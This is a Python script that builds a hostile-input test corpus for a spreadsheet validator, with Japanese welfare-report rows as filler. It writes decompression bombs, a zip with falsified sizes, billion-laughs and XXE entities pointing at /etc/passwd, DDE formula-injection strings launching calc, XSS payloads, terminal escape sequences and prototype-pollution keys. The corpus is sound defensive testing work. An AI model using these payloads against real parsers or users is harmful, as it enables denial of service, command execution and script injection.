#!/usr/bin/env python3
"""Writes the hostile-input corpus (seeds/hostile/files/) deterministically.

Each file is named <category>.<what>.<ext>: the category is the error code `shinchoku
validate` must give it ("ok" when it must be read). Raw zips are written by hand so every
byte is under our control; LibreOffice writes the .xls and .ods; encrypted-cfb.js the protected .xlsx.
Run: npm run hostile   (needs python3, node and soffice; about 20 s)
"""
import os
import random
import shutil
import subprocess
import sys
import tempfile
import zipfile
import zlib
from xml.sax.saxutils import escape

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, 'files')
FIXED_DATE = (2025, 1, 1, 0, 0, 0)

HEADER = ['取組内容', '令和6年度から令和7年度上半期の取組状況', '自己評価', '令和7年度下半期の取組内容', '取組区分', '担当部']
ROWS = [
    ['○アセスメントをふまえリスクの段階に応じた必要な支援を継続的に実施する体制を整える。',
     '・支援方針を共有し、世帯の状況の変化に合わせて再検討を行った。', 'A', '・引き続き実施する。', '継続', '子)児童相談所'],
    ['○複合化・複雑化した福祉課題を抱える世帯等への支援について、複合支援推進会議等を活用する。',
     '・会議を各区で開催した。', 'B', '・開催回数を増やす。', '拡充', '子)子育て支援部'],
    ['○区の要対協の機能強化を図る。', '・実務者会議の運営を見直した。', 'A', '・新たな進行管理の様式を導入する。', '新規', '子)子育て支援部'],
]
REPORT = [['検証報告書における提言'], ['提言1 区及び生活圏を単位とした支援体制の強化の必要性'], [], HEADER] + ROWS


def col_name(c):
    s = ''
    n = c + 1
    while n > 0:
        n, m = divmod(n - 1, 26)
        s = chr(65 + m) + s
    return s


def cell_xml(r, c, v):
    ref = f'{col_name(c)}{r + 1}'
    if v is None:
        return ''
    if isinstance(v, tuple):  # ('raw', xml) for hand-written cells
        return v[1].replace('{ref}', ref)
    if isinstance(v, (int, float)):
        return f'<c r="{ref}"><v>{v}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(v)}</t></is></c>'


def sheet_xml(rows, extra='', dimension=None, before_data=''):
    body = []
    for r, row in enumerate(rows):
        cells = ''.join(cell_xml(r, c, v) for c, v in enumerate(row))
        if cells:
            body.append(f'<row r="{r + 1}">{cells}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ''
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            f'{dim}{before_data}<sheetData>{"".join(body)}</sheetData>{extra}</worksheet>')


def zwrite(path, files, compress=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, 'w', compress) as z:
        for name, data in files:
            info = zipfile.ZipInfo(name, FIXED_DATE)
            info.compress_type = compress
            z.writestr(info, data.encode('utf-8') if isinstance(data, str) else data)


def xlsx_files(sheets, workbook_extra='', shared_strings=None):
    """sheets: list of (name, sheet_xml). Returns the parts of a minimal valid workbook."""
    ct = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>']
    for i in range(len(sheets)):
        ct.append(f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" '
                  'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
    if shared_strings is not None:
        ct.append('<Override PartName="/xl/sharedStrings.xml" '
                  'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
    ct.append('</Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            '</Relationships>')
    wb = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>']
    wbrels = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">']
    for i, (name, _) in enumerate(sheets):
        wb.append(f'<sheet name="{escape(name, {chr(34): "&quot;"})}" sheetId="{i + 1}" r:id="rId{i + 1}"/>')
        wbrels.append(f'<Relationship Id="rId{i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{i + 1}.xml"/>')
    if shared_strings is not None:
        wbrels.append(f'<Relationship Id="rId{len(sheets) + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>')
    wb.append(f'</sheets>{workbook_extra}</workbook>')
    wbrels.append('</Relationships>')
    files = [('[Content_Types].xml', ''.join(ct)), ('_rels/.rels', rels), ('xl/workbook.xml', ''.join(wb)),
             ('xl/_rels/workbook.xml.rels', ''.join(wbrels))]
    for i, (_, xml) in enumerate(sheets):
        files.append((f'xl/worksheets/sheet{i + 1}.xml', xml))
    if shared_strings is not None:
        files.append(('xl/sharedStrings.xml', shared_strings))
    return files


def write_xlsx(name, sheets, **kw):
    zwrite(os.path.join(OUT, name), xlsx_files(sheets, **kw))


def report_sheet(rows=None):
    return sheet_xml(REPORT if rows is None else rows)


def soffice(src, target, outdir):
    subprocess.run(['soffice', '--headless', '--norestore', '--convert-to', target, '--outdir', outdir, src],
                   check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=180)


def lying_bomb(path, real_size):
    """A zip whose directory says 'tiny' while the deflate stream expands to real_size."""
    payload = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = payload.compress(b'<' + b'a' * (real_size - 1)) + payload.flush()
    parts = xlsx_files([('提言1-ア', report_sheet()), ('提言1-イ', '')])[:-1]
    # By hand: local header + data + central directory; the second sheet claims 100 bytes.
    entries = []
    out = bytearray()
    for name, content in parts + [('xl/worksheets/sheet2.xml', None)]:
        raw = content.encode('utf-8') if content is not None else None
        if raw is not None:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            comp = c.compress(raw) + c.flush()
            crc, usize = zlib.crc32(raw), len(raw)
        else:
            comp, crc, usize = data, 0, 100
        nb = name.encode('utf-8')
        off = len(out)
        out += b'PK\x03\x04' + (20).to_bytes(2, 'little') + (0x800).to_bytes(2, 'little') + (8).to_bytes(2, 'little')
        out += b'\x00\x00\x21\x00' + crc.to_bytes(4, 'little') + len(comp).to_bytes(4, 'little') + usize.to_bytes(4, 'little')
        out += len(nb).to_bytes(2, 'little') + b'\x00\x00' + nb + comp
        entries.append((nb, crc, len(comp), usize, off))
    cd = bytearray()
    for nb, crc, csz, usz, off in entries:
        cd += b'PK\x01\x02' + (20).to_bytes(2, 'little') + (20).to_bytes(2, 'little') + (0x800).to_bytes(2, 'little')
        cd += (8).to_bytes(2, 'little') + b'\x00\x00\x21\x00' + crc.to_bytes(4, 'little') + csz.to_bytes(4, 'little')
        cd += usz.to_bytes(4, 'little') + len(nb).to_bytes(2, 'little') + b'\x00\x00' * 4 + b'\x00\x00\x00\x00'
        cd += off.to_bytes(4, 'little') + nb
    eocd = b'PK\x05\x06' + b'\x00\x00\x00\x00' + len(entries).to_bytes(2, 'little') * 2
    eocd += len(cd).to_bytes(4, 'little') + len(out).to_bytes(4, 'little') + b'\x00\x00'
    with open(path, 'wb') as f:
        f.write(bytes(out + cd + eocd))


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    rnd = random.Random(20251121)

    # A clean report, then everything else derived from it.
    write_xlsx('ok.report.xlsx', [('提言1-ア', report_sheet())])
    valid = open(os.path.join(OUT, 'ok.report.xlsx'), 'rb').read()

    # Broken containers.
    open(os.path.join(OUT, 'corrupt.truncated-zip.xlsx'), 'wb').write(valid[: len(valid) // 2])
    open(os.path.join(OUT, 'empty.zero-bytes.xlsx'), 'wb').write(b'')
    open(os.path.join(OUT, 'not-spreadsheet.random-binary.xlsx'), 'wb').write(bytes(rnd.getrandbits(8) for _ in range(4096)))
    png = b'\x89PNG\r\n\x1a\n' + bytes(rnd.getrandbits(8) for _ in range(2048))
    open(os.path.join(OUT, 'not-spreadsheet.screenshot-renamed.xlsx'), 'wb').write(png)
    zwrite(os.path.join(OUT, 'not-spreadsheet.zip-not-workbook.xlsx'), [('readme.txt', '報告書ではありません'), ('data/a.csv', 'a,b\n1,2\n')])
    zwrite(os.path.join(OUT, 'not-spreadsheet.word-renamed.xlsx'),
           [('[Content_Types].xml', '<Types/>'), ('word/document.xml', '<w:document xmlns:w="x"><w:body/></w:document>')])

    # Text files: CSV, TSV, a CSV renamed .xlsx, a web page saved as .xls.
    csv_rows = [HEADER] + ROWS
    def csv_line(r, sep):
        return sep.join('"' + v.replace('"', '""') + '"' if sep == ',' else v for v in r)
    open(os.path.join(OUT, 'text-file.report.csv'), 'w', encoding='utf-8-sig').write('\r\n'.join(csv_line(r, ',') for r in csv_rows) + '\r\n')
    open(os.path.join(OUT, 'text-file.report.tsv'), 'w', encoding='utf-8').write('\n'.join(csv_line(r, '\t') for r in csv_rows) + '\n')
    open(os.path.join(OUT, 'text-file.csv-renamed.xlsx'), 'wb').write('\r\n'.join(csv_line(r, ',') for r in csv_rows).encode('cp932'))
    html = '<html><head><meta charset="utf-8"></head><body><table>' + ''.join(
        '<tr>' + ''.join(f'<td>{escape(v)}</td>' for v in r) + '</tr>' for r in csv_rows) + '</table></body></html>'
    open(os.path.join(OUT, 'unsupported-format.web-page-saved-as.xls'), 'w', encoding='utf-8').write(html)

    # Sheets that are not reports, or barely.
    write_xlsx('no-report.no-matching-sheets.xlsx', [('メモ', sheet_xml([['連絡事項'], ['特になし']])), ('Sheet2', sheet_xml([['a', 'b'], [1, 2]]))])
    write_xlsx('ok.header-only.xlsx', [('提言1-ア', sheet_xml([['提言1'], HEADER]))])
    dup = HEADER + ['取組内容', '担当部']
    write_xlsx('ok.duplicate-headers.xlsx', [('提言1-ア', sheet_xml([dup] + [r + ['別の内容', '子)児童相談所'] for r in ROWS]))])

    # Whole-sheet ranges: used range from stray formatting, merges, validations, names.
    stray_rows = REPORT + [[] for _ in range(3)]
    stray = sheet_xml(stray_rows, dimension='A1:XFD1048576',
                      before_data='<cols><col min="1" max="16384" width="12" style="1" customWidth="1"/></cols>')
    stray = stray.replace('</sheetData>', '<row r="1048576" s="1" customFormat="1"><c r="XFD1048576" s="1"/></row></sheetData>')
    write_xlsx('ok.stray-format-to-xfd1048576.xlsx', [('提言1-ア', stray)])
    full = ('<mergeCells count="2"><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A2:XFD1048576"/></mergeCells>'
            '<dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"新規,拡充,継続"</formula1></dataValidation></dataValidations>'
            '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="containsBlanks" priority="1"/></conditionalFormatting>'
            '<autoFilter ref="A1:XFD1048576"/>')
    write_xlsx('ok.full-sheet-merge-validation-names.xlsx', [('提言1-ア', sheet_xml(REPORT, extra=full, dimension='A1:XFD1048576'))],
               workbook_extra='<definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">\'提言1-ア\'!$A$1:$XFD$1048576</definedName>'
                              '<definedName name="all">\'提言1-ア\'!$A:$XFD</definedName></definedNames>')
    # The same, plus one real cell at XFD1048576: the used area is now the whole sheet.
    far = REPORT
    far_xml = sheet_xml(far, extra='<mergeCells count="1"><mergeCell ref="A8:XFD1048576"/></mergeCells>', dimension='A1:XFD1048576')
    far_xml = far_xml.replace('</sheetData>', '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>端</t></is></c></row></sheetData>')
    write_xlsx('ok.merge-to-far-corner-cell.xlsx', [('提言1-ア', far_xml)])

    # Decompression bombs.
    zeros_sheet = sheet_xml(REPORT).replace('</worksheet>', '<!--' + ' ' * (300 * 1024 * 1024) + '--></worksheet>')
    zwrite(os.path.join(OUT, 'expanded-too-large.bomb-300mb-xml.xlsx'), xlsx_files([('提言1-ア', zeros_sheet)]))
    del zeros_sheet
    lying_bomb(os.path.join(OUT, 'expanded-too-large.bomb-lying-sizes.xlsx'), 200 * 1024 * 1024)
    media_bomb = xlsx_files([('提言1-ア', report_sheet())]) + [('xl/media/image1.png', b'\x89PNG\r\n\x1a\n' + bytes(300 * 1024 * 1024))]
    zwrite(os.path.join(OUT, 'expanded-too-large.bomb-in-picture.xlsx'), media_bomb)
    del media_bomb
    big = 'あ' * (1024 * 1024)
    sst = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
           f'<si><t>{big}</t></si></sst>')
    amp_rows = [HEADER] + [[('raw', '<c r="{ref}" t="s"><v>0</v></c>')] * 6 for _ in range(20)]
    write_xlsx('expanded-too-large.shared-string-amplified.xlsx', [('提言1-ア', sheet_xml(amp_rows))], shared_strings=sst)

    # Formulas: with cached values (LibreOffice computes them) and without (hand-written).
    f_rows = [r[:] for r in REPORT]
    f_rows[4] = f_rows[4][:2] + [('raw', '<c r="{ref}" t="str"><f>IF(1=1,"A","B")</f><v>A</v></c>')] + f_rows[4][3:]
    write_xlsx('ok.formulas-cached.xlsx', [('提言1-ア', sheet_xml(f_rows))])
    n_rows = [r[:] for r in REPORT]
    n_rows[4] = n_rows[4][:2] + [('raw', '<c r="{ref}"><f>IF(1=1,"A","B")</f></c>')] + n_rows[4][3:]
    n_rows[5] = n_rows[5][:5] + [('raw', '<c r="{ref}" t="str"><f>"子)"&amp;"子育て支援部"</f></c>')]
    write_xlsx('ok.formulas-no-cached-value.xlsx', [('提言1-ア', sheet_xml(n_rows))])

    # Text that looks like code: formula injection, HTML/script, control characters.
    inj = [r[:] for r in REPORT]
    inj[4][0] = '=HYPERLINK("http://example.invalid/?q="&A1,"詳細")'
    inj[5][0] = '+cmd|\' /C calc\'!A0'
    inj[6][0] = '-2+3+cmd|\' /C notepad\'!A0'
    inj.append(['@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1', 'A', '\t=2+2', '継続', '子)児童相談所'])
    write_xlsx('ok.formula-injection-text.xlsx', [('提言1-ア', sheet_xml(inj))])
    htm = [r[:] for r in REPORT]
    htm[4][1] = '<script>alert("x")</script>'
    htm[5][1] = '<img src=x onerror="alert(1)">'
    htm[6][1] = '"><svg/onload=alert(2)> &amp; javascript:alert(3)'
    write_xlsx('ok.html-and-script-text.xlsx', [('提言1-ア', sheet_xml(htm))])
    ctl = [r[:] for r in REPORT]
    # Excel's own escapes: _x001B_ is ESC, _xD800_ a lone surrogate; SheetJS decodes them.
    ctl[4][1] = ('raw', '<c r="{ref}" t="inlineStr"><is><t>_x001B_[2J_x001B_]0;pwned_x0007_画面消去</t></is></c>')
    ctl[5][1] = ('raw', '<c r="{ref}" t="inlineStr"><is><t>孤立サロゲート_xD800_と_xDFFF_</t></is></c>')
    ctl[6][1] = ('raw', '<c r="{ref}" t="inlineStr"><is><t>NUL_x0000_と\u202e反転\u202cと\u0085改行</t></is></c>')
    # In the department column too, so a finding quotes it and the terminal sees it.
    ctl[6][5] = ('raw', '<c r="{ref}" t="inlineStr"><is><t>子)_x001B_[31m赤い部_xD83D_</t></is></c>')
    write_xlsx('ok.control-chars-and-surrogates.xlsx', [('提言1-ア', sheet_xml(ctl)), ('制御&#27;[2J文字', report_sheet())])

    # Names: sheet names with spaces, slash lookalikes, emoji, long; prototype keys.
    write_xlsx('ok.sheet-names-odd.xlsx', [('提言1-ア 空白 ∕ ／ ⁄ 😀', report_sheet()), ('提言2-イ' + '長' * 60, report_sheet()),
                                          ('　', sheet_xml([['メモ']]))])
    long_name = 'ok.ファイル名 空白 ∕スラッシュ風 😀 ' + 'とても長い名前' * 20 + '.xlsx'
    while len(long_name.encode('utf-8')) > 250:
        long_name = long_name[:-6] + '.xlsx'
    shutil.copy(os.path.join(OUT, 'ok.report.xlsx'), os.path.join(OUT, long_name))
    proto_rows = [r[:] for r in REPORT]
    proto_rows[3] = HEADER + ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString']
    proto_rows[4] = proto_rows[4] + ['{"polluted":true}', 'x', 'y', 'z', 'w']
    write_xlsx('ok.prototype-keys.xlsx', [('__proto__', sheet_xml(proto_rows)), ('constructor', report_sheet()),
                                          ('hasOwnProperty', sheet_xml([['toString', 'valueOf'], ['a', 'b']]))])

    # XML tricks SheetJS must not follow: entity expansion, external entities.
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
              '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    lx = sheet_xml(REPORT).replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n', laughs)
    lx = lx.replace('</sheetData>', '<row r="20"><c r="A20" t="inlineStr"><is><t>&lol3;&xxe;</t></is></c></row></sheetData>')
    write_xlsx('ok.xml-entities-not-expanded.xlsx', [('提言1-ア', lx)])

    # ODS whose repeat attributes would materialise 17 billion cells.
    ods_tmp = tempfile.mkdtemp()
    try:
        rbomb = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
                 '<office:body><office:spreadsheet><table:table table:name="提言1-ア">'
                 '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
                 '</table:table></office:spreadsheet></office:body></office:document-content>')
        manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                    '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
        zwrite(os.path.join(OUT, 'expanded-too-large.ods-repeated-cells.ods'),
               [('mimetype', 'application/vnd.oasis.opendocument.spreadsheet'), ('content.xml', rbomb), ('META-INF/manifest.xml', manifest)])

        # LibreOffice: .xls (BIFF8), .ods, its own .xlsx, and a password-protected .xlsx.
        src = os.path.join(ods_tmp, 'report.xlsx')
        shutil.copy(os.path.join(OUT, 'ok.report.xlsx'), src)
        soffice(src, 'xls:MS Excel 97', ods_tmp)
        soffice(src, 'ods', ods_tmp)
        shutil.copy(os.path.join(ods_tmp, 'report.xls'), os.path.join(OUT, 'ok.biff8-by-libreoffice.xls'))
        shutil.copy(os.path.join(ods_tmp, 'report.ods'), os.path.join(OUT, 'ok.report-by-libreoffice.ods'))
        # LibreOffice 7.4 ignores a Password when converting to .xlsx: see encrypted-cfb.js.
        subprocess.run(['node', os.path.join(HERE, 'encrypted-cfb.js'), os.path.join(OUT, 'encrypted.password-protected.xlsx')], check=True)
        soffice(os.path.join(ods_tmp, 'report.ods'), 'xlsx:Calc MS Excel 2007 XML', os.path.join(ods_tmp, 'lo'))
        shutil.copy(os.path.join(ods_tmp, 'lo', 'report.xlsx'), os.path.join(OUT, 'ok.report-by-libreoffice.xlsx'))
    finally:
        shutil.rmtree(ods_tmp)

    total = sum(os.path.getsize(os.path.join(OUT, f)) for f in os.listdir(OUT))
    print(f'{len(os.listdir(OUT))} files, {total / 1024:.0f} KiB in {OUT}')


if __name__ == '__main__':
    sys.exit(main())
